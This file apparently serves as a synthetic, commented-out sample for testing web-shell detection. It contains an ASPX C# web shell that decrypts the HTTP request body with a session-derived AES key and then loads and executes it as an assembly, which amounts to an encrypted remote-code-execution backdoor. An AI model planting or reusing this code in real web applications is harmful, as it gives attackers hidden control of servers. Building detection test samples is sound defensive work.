<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><%@ Import Namespace="System.Reflection"%><% byte[] k = Encoding.Default.GetBytes(Session[0] + ""); byte[] c = Request.BinaryRead(Request.ContentLength); Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this); %>
--%>
